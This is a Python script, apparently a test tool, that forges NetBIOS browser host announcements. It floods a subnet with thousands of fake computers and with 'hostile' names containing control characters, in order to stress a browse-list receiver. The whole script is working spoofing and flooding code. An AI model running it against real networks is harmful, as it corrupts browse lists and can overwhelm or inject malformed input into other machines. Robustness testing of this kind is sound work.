#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Floods a subnet with host announcements of computers that do not exist, as an attacker would.

Usage: host_announcement_forger.py SOURCE BROADCAST COUNT WORKGROUP [HOSTILE-NAME...]
  Announces COUNT computers F0000, F0001, ... of WORKGROUP, each with a period of one hour, and
  each HOSTILE-NAME (written as Python escapes, so "TAB\\tX" holds a tab) before and after them,
  as a computer of WORKGROUP and as a workgroup of its own. Prints "sent N" at the end.
The frames are written here byte by byte from the documents: a HostAnnouncement (MS-BRWS 2.2.1)
in a mailslot write to \\MAILSLOT\\BROWSE (MS-MAIL, an SMB_COM_TRANSACTION), in a NetBIOS
DIRECT_GROUP datagram (RFC 1002 4.4.1) to WORKGROUP<1D>, sent from SOURCE, UDP port 138 (or
$LYR_NETBIOS_DGM_PORT).
"""
import os
import socket
import struct
import sys
import time


def encoded_name(name, suffix):
    # RFC 1001 14.1: first-level encoding, 32 half-bytes as letters, no scope.
    raw = name.ljust(15, b" ")[:15] + bytes([suffix])
    letters = bytearray()
    for byte in raw:
        letters += bytes([ord("A") + (byte >> 4), ord("A") + (byte & 0x0F)])
    return bytes([32]) + bytes(letters) + b"\x00"


def host_announcement(server_name, period_ms):
    # Opcode 0x01, UpdateCount, Periodicity, ServerName (16 bytes, NUL-padded), OS version 6.1,
    # ServerType workstation|server|NT workstation, browser version 15.1, signature 0xAA55, and
    # a NUL-terminated comment.
    return (struct.pack("<BBI", 0x01, 0, period_ms) + server_name[:15].ljust(16, b"\x00") +
            struct.pack("<BBIBBH", 6, 1, 0x00001003, 15, 1, 0xAA55) + b"forged\x00")


def mailslot_write(mailslot, data):
    # SMB header: protocol, command 0x25 (TRANSACTION), status, flags, flags2, PID high,
    # security features, reserved, TID, PID low, UID, MID: all zero but the command.
    header = b"\xFFSMB" + struct.pack("<BIBH12sHHHH", 0x25, 0, 0, 0, b"", 0, 0, 0, 0)
    name = mailslot + b"\x00"
    word_count = 17  # 14 words and three setup words
    data_offset = len(header) + 1 + 2 * word_count + 2 + len(name)
    words = struct.pack("<HHHHBBHIHHHHHBB", 0, len(data), 0, 0, 0, 0, 0, 0, 0, 0, 0, len(data),
                        data_offset, 3, 0)
    # Setup: opcode 1 (write mailslot), priority 1, class 2 (unreliable, broadcast).
    setup = struct.pack("<HHH", 1, 1, 2)
    byte_count = struct.pack("<H", len(name) + len(data))
    return header + bytes([word_count]) + words + setup + byte_count + name + data


def direct_group_datagram(datagram_id, source_ip, source_port, source_name, destination_name, user_data):
    # MSG_TYPE 0x11, FLAGS: first fragment of a B node, DGM_ID, SOURCE_IP, SOURCE_PORT, then
    # DGM_LENGTH (the names and the data) and PACKET_OFFSET 0.
    body = encoded_name(source_name, 0x00) + encoded_name(destination_name, 0x1D) + user_data
    return struct.pack(">BBH4sHHH", 0x11, 0x02, datagram_id, socket.inet_aton(source_ip),
                       source_port, len(body), 0) + body


def main():
    source_ip, broadcast, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
    workgroup = sys.argv[4].encode()
    hostile = [name.encode("latin-1").decode("unicode_escape").encode("latin-1")
               for name in sys.argv[5:]]
    port = int(os.environ.get("LYR_NETBIOS_DGM_PORT", "138"))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sender.bind((source_ip, port))
        sent = 0

        def announce(group, name):
            nonlocal sent
            frame = mailslot_write(b"\\MAILSLOT\\BROWSE", host_announcement(name, 3600 * 1000))
            sender.sendto(direct_group_datagram(sent & 0xFFFF, source_ip, port, name, group, frame),
                          (broadcast, port))
            sent += 1
            # A receiver's socket holds some hundred datagrams: short pauses let it keep up.
            if sent % 50 == 0:
                time.sleep(0.005)

        def announce_hostile():
            for name in hostile:
                announce(workgroup, name)
                announce(name, b"PCX")

        announce_hostile()
        for i in range(count):
            announce(workgroup, b"F%04d" % i)
        announce_hostile()
    print("sent", sent, flush=True)


if __name__ == "__main__":
    main()
